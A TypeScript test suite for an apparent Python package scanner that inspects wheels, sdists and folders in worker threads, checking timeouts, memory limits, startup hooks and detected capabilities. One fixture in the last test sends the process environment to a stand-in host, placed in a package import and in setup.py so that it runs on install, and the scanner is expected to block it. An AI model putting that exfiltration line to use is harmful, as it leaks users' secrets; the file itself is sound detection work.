import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { aSdist, aSdistName } from '../../../test/builders/a-sdist.ts';
import { aWheel, aWheelName } from '../../../test/builders/a-wheel.ts';
import { createInspector } from './inspector.ts';

/** Does what the file name says. */
const WORKER = `
import { threadId } from 'node:worker_threads';
export default async function ({ filename }) {
  if (filename === 'hang') for (;;);
  if (filename === 'exit') process.exit(3);
  if (filename === 'throw') throw new TypeError('of no interest to users');
  if (filename === 'eat') for (const eaten = []; ; ) eaten.push(new Array(1e5).fill(eaten.length));
  if (filename === 'nap') await new Promise((resolve) => setTimeout(resolve, 800));
  return { inspection: { filename, thread: threadId }, externalBytes: filename === 'swell' ? 1e9 : 0 };
}`;

let folder: string;
let worker: URL;
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'wheelgate-inspector-'));
  worker = pathToFileURL(join(folder, 'worker.mjs'));
  await writeFile(worker, WORKER);
});
after(() => rm(folder, { recursive: true }));

type Answer = { readonly filename: string; readonly thread: number };
const nameOf = (answer: unknown) => (answer as Answer).filename;
const threadOf = (answer: unknown) => (answer as Answer).thread;

const memory = { maxMemoryBytes: 64 * 2 ** 20 };

test('a wheel on disk is inspected in a thread and what is found is plain data', async () => {
  const inspector = createInspector({ ...memory, deadlineMs: 60_000, threads: 1 });
  const path = join(folder, 'blob');
  await writeFile(path, aWheel({ files: { 'demo.pth': 'import os\n' } }));
  const { seconds, behaviour, portableContent, pythonMembers, ...inspection } = await inspector.inspect(
    path,
    aWheelName(),
  );
  await inspector.close();
  assert.equal(behaviour?.complete, true);
  assert.match(portableContent ?? '', /^[0-9a-f]{64}$/);
  assert.match(pythonMembers ?? '', /^[\w-]{22}demo\.pth$/);
  const metadata = 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n\ndemo does nothing.\n';
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
  assert.ok(seconds > 0);
  assert.deepEqual(inspection, {
    findings: [],
    complete: true,
    declared: { name: 'demo', version: '1.0.0' },
    metadata: { base64: Buffer.from(metadata).toString('base64'), sha256: sha256(metadata) },
    startupHooks: [{ file: 'demo.pth', sha256: sha256('import os\n'), runsCode: true }],
    nativeFiles: [],
  });
});

test('a file that cannot be opened is a failed inspection', async () => {
  const inspector = createInspector({ ...memory, deadlineMs: 60_000, threads: 1 });
  await assert.rejects(inspector.inspect(join(folder, 'none'), aWheelName()), { code: 'INSPECTION_FAILED' });
  await inspector.close();
});

for (const [filename, why, message, deadlineMs] of [
  ['hang', 'takes longer than its deadline', 'the inspection took longer than 3 s', 3000],
  ['eat', 'needs too much memory', 'the inspection needed more memory than it may', 60_000],
  ['exit', 'ends its thread', 'the inspection failed', 60_000],
  ['throw', 'throws', 'the inspection failed', 60_000],
] as const) {
  test(`an inspection that ${why} fails, and the next one works`, async () => {
    const inspector = createInspector({ ...memory, deadlineMs, threads: 1, worker });
    await assert.rejects(inspector.inspect('', filename), { code: 'INSPECTION_FAILED', message });
    assert.equal(nameOf(await inspector.inspect('', 'fine')), 'fine');
    await inspector.close();
  });
}

test('the deadline of a file begins when its turn comes', async () => {
  const inspector = createInspector({ ...memory, deadlineMs: 2500, threads: 1, worker });
  const naps = Array.from({ length: 4 }, () => 'nap');
  const inspected = await Promise.all(naps.map((name) => inspector.inspect('', name)));
  await inspector.close();
  assert.equal(inspected.length, naps.length);
});

test('a thread that holds much WebAssembly memory ends, and gives it back', async () => {
  const inspector = createInspector({ ...memory, deadlineMs: 60_000, threads: 1, worker });
  const first = await inspector.inspect('', 'fine');
  const second = await inspector.inspect('', 'swell');
  const third = await inspector.inspect('', 'fine');
  await inspector.close();
  assert.equal(threadOf(second), threadOf(first));
  assert.notEqual(threadOf(third), threadOf(second));
});

test('a virtual environment is read when it is named, and passed over in a tree', async () => {
  const inspector = createInspector({ deadlineMs: 60_000, maxMemoryBytes: 2 ** 30, threads: 1 });
  await mkdir(join(folder, 'project/venv'), { recursive: true });
  await writeFile(join(folder, 'project/venv/pyvenv.cfg'), '');
  await writeFile(join(folder, 'project/venv/tool.py'), 'import os\nos.system("ls")\n');
  const [named, passed] = await Promise.all([
    inspector.inspectFolder(join(folder, 'project/venv')),
    inspector.inspectFolder(join(folder, 'project')),
  ]);
  await inspector.close();
  assert.deepEqual(
    named.behaviour?.capabilities.map(({ capability }) => capability),
    ['process'],
  );
  assert.deepEqual(passed.behaviour?.capabilities, []);
});

test('code in a wheel, an sdist and a folder is analysed where it runs', async () => {
  const inspector = createInspector({ deadlineMs: 60_000, maxMemoryBytes: 2 ** 30, threads: 1 });
  const code =
    "import os, urllib.request\nurllib.request.urlopen('https://collector.example.invalid/', str(os.environ).encode())\n";
  await writeFile(join(folder, 'wheel'), aWheel({ files: { 'demo/__init__.py': code } }));
  await writeFile(join(folder, 'sdist'), aSdist({ setup: code }));
  await mkdir(join(folder, 'tree/demo'), { recursive: true });
  await writeFile(join(folder, 'tree/setup.py'), 'from setuptools import setup\nsetup()\n');
  await writeFile(join(folder, 'tree/demo/__init__.py'), code);
  const found = await Promise.all([
    inspector.inspect(join(folder, 'wheel'), aWheelName()),
    inspector.inspect(join(folder, 'sdist'), aSdistName()),
    inspector.inspectFolder(join(folder, 'tree')),
  ]);
  await inspector.close();
  const network = found.map(({ behaviour }) =>
    behaviour?.capabilities.find(({ capability }) => capability === 'network'),
  );
  assert.deepEqual(network, [
    { capability: 'network', context: 'import', file: 'demo/__init__.py', line: 2 },
    { capability: 'network', context: 'install', file: 'demo-1.0.0/setup.py', line: 2 },
    { capability: 'network', context: 'import', file: 'demo/__init__.py', line: 2 },
  ]);
  assert.ok(found.every(({ behaviour }) => behaviour?.verdict === 'hold' || behaviour?.verdict === 'block'));
});
